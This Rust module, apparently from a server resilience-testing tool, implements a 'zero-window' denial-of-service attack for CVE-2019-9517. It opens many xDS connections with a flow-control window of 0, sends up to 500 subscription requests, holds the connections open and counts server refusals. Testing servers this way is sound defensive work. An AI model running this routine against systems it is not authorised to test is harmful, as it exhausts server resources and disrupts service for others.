//! Windows that never open: what is sent stays with the server.

use std::sync::Arc;
use std::time::Duration;

use super::subscribe;
use crate::attack::{Attack, Outcome, Running, Target};
use crate::peer::{Peer, Reads};
use crate::proto::Node;

/// CVE-2019-9517.
pub(super) const ZERO_WINDOW: Attack = Attack::new(
    "zero-window",
    "CVE-2019-9517",
    "500 streams that ask for clusters with a window of 0",
    run,
);

fn run(target: Arc<Target>) -> Running {
    Box::pin(async move {
        let mut outcome = Outcome::default();
        let mut open = Vec::new();
        let all = target.many(500);
        let mut number = 0;
        while target.goes_on() && number < all {
            let Ok(mut peer) = Peer::open(target.xds, 0, Reads::All).await else {
                outcome.refused += 1;
                target.rest(Duration::from_millis(100)).await;
                continue;
            };
            for _ in 0..peer.at_once(100) {
                let node = Node::of(number, &format!("n{}", number % 20), "window").encode();
                number += 1;
                outcome.sent += 1;
                if subscribe(&mut peer, &node).await.is_err() {
                    break;
                }
            }
            open.push(peer);
        }
        target.hold().await;
        let refused = open.iter().filter(|peer| peer.told.refused());
        outcome.refused += refused.count() as u64;
        Ok(outcome)
    })
}
